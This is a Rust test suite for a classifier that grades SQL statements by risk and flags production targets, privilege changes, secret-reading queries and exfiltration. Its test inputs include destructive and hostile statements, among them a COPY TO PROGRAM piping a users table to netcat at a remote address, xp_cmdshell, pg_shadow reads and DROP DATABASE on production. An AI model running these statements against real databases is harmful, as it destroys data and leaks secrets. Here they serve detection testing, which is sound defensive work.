use super::*;

/// The worst tier of a text, and its rules in order.
fn check(text: &str, environment: Environment, tier: Option<Tier>) {
    let findings = judge(text, environment);
    let worst = findings.iter().map(|f| f.tier).max();
    assert_eq!(worst, tier, "{text}: {findings:#?}");
    for finding in &findings {
        assert!(text.get(finding.span.0..finding.span.1).is_some(), "{text}: {:?}", finding.span);
    }
}

#[test]
fn reads_give_nothing() {
    for text in [
        "SELECT * FROM orders WHERE status = 'deleted'",
        "EXPLAIN DELETE FROM orders WHERE id = 4",
        "-- DROP TABLE users\nSELECT 1",
        "SELECT 'TRUNCATE users' AS note",
        "SHOW TABLES",
        "\\dt",
        "\\d+ users",
        ".tables",
        "SELECT \"delete\" FROM t",
        "WITH a AS (SELECT 1) SELECT * FROM a",
        "/* DROP TABLE x */ SELECT 1",
        "PRAGMA table_info(x)",
        "SELECT count(*) FROM a JOIN b USING (id) GROUP BY 1",
        "BEGIN; SELECT 1; COMMIT",
        "DESCRIBE users",
        "SET search_path TO app",
        "select pg_size_pretty(pg_database_size('shop'))",
        "SELECT $$DROP TABLE x$$",
        "",
        ";;",
        "EXPLAIN ANALYZE SELECT * FROM users",
        "VALUES (1), (2)",
        "SELECT deleted_at, updated FROM t FOR UPDATE",
        "SELECT sort_key, idempotency_key, auth_provider FROM t",
        "SELECT prompt_tokens, secret_santa_year, reset_sent_at FROM t",
        "SELECT count(token), length(api_key), password IS NOT NULL FROM t",
        "SELECT count(*) FROM api_keys",
        "SELECT count(*) FROM (SELECT token FROM api_keys) t",
        "SELECT key, value FROM settings",
        "SELECT name, is_secret, has_password FROM settings",
        "EXPLAIN (ANALYZE false, BUFFERS off) UPDATE invoices SET status = 'void'",
        "EXPLAIN (ANALYZE off) DELETE FROM invoices",
        "SELECT truncate(12.345, 1)",
        "SELECT delete_reason(id) FROM orders",
    ] {
        check(text, Environment::Unknown, None);
    }
}

#[test]
fn what_can_be_changed_back_is_low() {
    for text in [
        "INSERT INTO audit(action) VALUES ('drop table users')",
        "CREATE TABLE IF NOT EXISTS tmp_import (id int)",
        "DELETE FROM cart_items WHERE id = 991",
        "BEGIN; DELETE FROM carts WHERE id = 2; ROLLBACK;",
        "BEGIN; DELETE FROM carts; ROLLBACK",
        "UPDATE users SET name = 'x' WHERE id = 3",
        "CREATE INDEX a ON b (c)",
        "DROP INDEX CONCURRENTLY idx_a",
        "ALTER TABLE a ADD COLUMN b int",
        "ALTER TABLE a DROP CONSTRAINT c",
        "CREATE TABLE a (b int REFERENCES c ON DELETE CASCADE)",
        "VACUUM ANALYZE users",
        "DROP TABLE IF EXISTS tmp_import",
        "CREATE TABLE scratch (id int); DROP TABLE scratch",
        "CREATE TABLE public.orders (id int); ALTER TABLE public.orders OWNER TO shop",
        "delete from sessions where user_id in (1, 2, 3)",
        "DELETE FROM t WHERE id = $1 AND kind = 'x'",
        "DROP DATABASE IF EXISTS shop_test",
        "ALTER TABLE a ALTER COLUMN b DROP NOT NULL",
    ] {
        check(text, Environment::Unknown, Some(Tier::Low));
    }
}

#[test]
fn what_cannot_be_taken_back_is_held() {
    for text in [
        "DROP TABLE customers",
        "TRUNCATE orders, order_items RESTART IDENTITY CASCADE",
        "DELETE FROM users",
        "DELETE FROM users WHERE 1=1",
        "UPDATE accounts SET balance = 0",
        "ALTER TABLE users DROP COLUMN email",
        "WITH old AS (DELETE FROM events RETURNING *) SELECT count(*) FROM old",
        "drop database shop",
        "DROP DATABASE x WITH (FORCE)",
        "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
        "ALTER TABLE a DROP PARTITION p0",
        "SELECT 1; DROP TABLE users",
        "DELETE FROM users WHERE id = 3 OR 1 = 1",
        "delete from users where true",
        "/*!50000 DROP TABLE users */",
        "DROP SCHEMA public CASCADE",
        "EXPLAIN ANALYZE DELETE FROM users",
        "CREATE OR REPLACE TABLE t AS SELECT 1",
        "DELETE FROM users WHERE id IS NOT NULL",
        "DELETE FROM users -- WHERE id = 1",
        "COPY t TO PROGRAM 'curl x'",
        "EXEC xp_cmdshell 'dir'",
        "INSERT OVERWRITE TABLE t SELECT 1",
        "ALTER TABLE a DROP b",
        "WITH a AS (SELECT 1) DELETE FROM users",
        "GRANT ALL PRIVILEGES ON DATABASE shop TO bob",
        "DELETE FROM \"users\"",
        "UPDATE t SET a = 1 WHERE 'a' = 'a'",
        "BEGIN; DROP TABLE x; ROLLBACK",
        "ALTER ROLE bob SUPERUSER",
        "TRUNCATE `orders`",
        "PURGE BINARY LOGS BEFORE '2030-01-01'",
        "ALTER TABLE t DELETE WHERE 1",
        "DROP EXTENSION postgis CASCADE",
    ] {
        check(text, Environment::Unknown, Some(Tier::High));
    }
    for text in [
        "DELETE FROM events WHERE created_at < now() - interval '1 year'",
        "GRANT SELECT ON t TO bob",
        "DROP USER bob",
        "ALTER TABLE t DISABLE ROW LEVEL SECURITY",
        "SELECT * FROM pg_shadow",
        "GRANT admin TO bob WITH ADMIN OPTION",
        "CREATE ROLE x LOGIN",
        "MATCH (n) DETACH DELETE n",
        "DELETE FROM t WHERE status = 'old'",
    ] {
        let findings = judge(text, Environment::Unknown);
        let worst = findings.iter().map(|f| f.tier).max();
        assert!(matches!(worst, Some(Tier::Medium | Tier::High)), "{text}: {findings:#?}");
    }
}

#[test]
fn production_is_critical_and_named_so() {
    for (text, environment) in [
        ("DROP DATABASE shop_production", Environment::Unknown),
        ("DROP SCHEMA public CASCADE", Environment::Production),
        ("TRUNCATE shop_production.orders", Environment::Unknown),
        ("USE shop_prod; DELETE FROM orders", Environment::Unknown),
        ("\\c shop_production\nDROP TABLE users;", Environment::Local),
    ] {
        let findings = judge(text, environment);
        let classes: Vec<Class> = findings.iter().map(|f| f.class).collect();
        assert_eq!(findings.first().map(|f| f.tier), Some(Tier::Critical), "{text}: {findings:#?}");
        assert!(classes.contains(&Class::Production) && classes.contains(&Class::Delete), "{text}");
    }
    check("SELECT 1", Environment::Production, None);
    check("UPDATE users SET name = 'x' WHERE id = 3", Environment::Production, Some(Tier::Medium));
}

#[test]
fn a_text_that_cannot_be_read_is_never_harmless() {
    for text in ["SELEC * FORM users", "'unclosed", "SELECT FROM (WHERE", "frobnicate the users"] {
        assert!(!judge(text, Environment::Unknown).is_empty(), "{text}");
    }
    for text in ["'unclosed DROP TABLE x", "frobnicate DROP TABLE x"] {
        let worst = judge(text, Environment::Unknown).iter().map(|f| f.tier).max();
        assert!(worst >= Some(Tier::Medium), "{text}");
    }
}

#[test]
fn a_query_that_shows_secrets_is_named_so() {
    for text in [
        "SELECT token FROM api_keys",
        "SELECT id, a.accessToken FROM accounts a",
        "SELECT * FROM app.api_keys LIMIT 3",
        "SELECT value FROM secrets WHERE name = 'x'",
        "COPY (SELECT email, reset_token FROM users) TO STDOUT",
        "SELECT string_agg(api_token, ',') FROM users",
        "WITH a AS (SELECT 1) SELECT client_secret FROM apps",
    ] {
        check(text, Environment::Unknown, Some(Tier::Medium));
        check(text, Environment::Development, Some(Tier::Low));
    }
    check("SELECT email, password_hash FROM users", Environment::Local, Some(Tier::Low));
    check("SELECT email, password_hash FROM users", Environment::Unknown, Some(Tier::Medium));
}

#[test]
fn a_routine_is_judged_by_its_name_and_by_the_statements_it_is_given() {
    let held = |text: &str, tier: Tier| check(text, Environment::Unknown, Some(tier));
    held("EXEC sp_MSforeachtable 'DROP TABLE ?'", Tier::High);
    held("EXEC sp_executesql N'TRUNCATE TABLE orders'", Tier::High);
    held("CALL purge_all_customers()", Tier::Medium);
    held("EXEC dbo.usp_DeleteOrders @before = '2024-01-01'", Tier::Medium);
    held("SELECT app.wipe_tenant(4)", Tier::Medium);
    held("SELECT purge_events()", Tier::Medium);
    held("EXEC sp_helptext 'usp_DeleteOrder'", Tier::Low);
    held("CALL refresh_totals()", Tier::Low);
    held("ALTER TABLE orders ALTER COLUMN total TYPE int USING 0", Tier::High);
    held("ALTER TABLE orders ALTER COLUMN total TYPE int USING total::int", Tier::Low);
}

#[test]
fn a_guard_of_rows_that_goes_and_rows_that_leave_are_named() {
    let rules = |text: &str| judge(text, Environment::Unknown).into_iter().map(|found| found.class).collect::<Vec<_>>();
    assert!(rules("ALTER TABLE users DISABLE ROW LEVEL SECURITY").contains(&Class::Privilege));
    assert!(rules("COPY users TO PROGRAM 'nc 203.0.113.4 99'").contains(&Class::Exfiltration));
    assert!(!rules("COPY users FROM PROGRAM 'cat x'").contains(&Class::Exfiltration));
}
